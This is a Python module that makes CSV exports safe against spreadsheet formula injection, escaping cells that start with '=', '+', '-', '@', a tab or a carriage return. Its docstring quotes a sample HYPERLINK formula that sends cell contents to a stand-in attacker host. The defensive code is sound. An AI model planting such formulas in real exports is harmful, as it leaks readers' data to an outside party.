"""CSV that is safe to open in a spreadsheet (OWASP "CSV injection").

Excel, LibreOffice Calc and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` as a formula
(and skip a leading tab or carriage return before reading it): a user agent or a username such as
`=HYPERLINK("https://evil.example/?"&A1, "open")` in an export would become a live formula in the reader's
spreadsheet. Every CSV Sandgate writes goes through `csv_cell`, here and only here.
"""

from __future__ import annotations

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def csv_cell(value):
    """The value as a CSV cell: text that would start a formula gets a `'` in front, and stays readable.

    Text that already starts with `'` gets one too, so the rule can be undone exactly: remove one leading
    `'` from every cell that has one (how an auditor recomputes the audit chain from a CSV export).
    Numbers, None and other non-text values are left alone: a spreadsheet reads them as values.
    """
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose every cell goes through `csv_cell`."""

    def writerow(self, rowdict):
        return super().writerow(_safe(rowdict))

    def writerows(self, rowdicts):
        return super().writerows(_safe(row) for row in rowdicts)


def _safe(row: dict) -> dict:
    return {key: csv_cell(value) for key, value in row.items()}
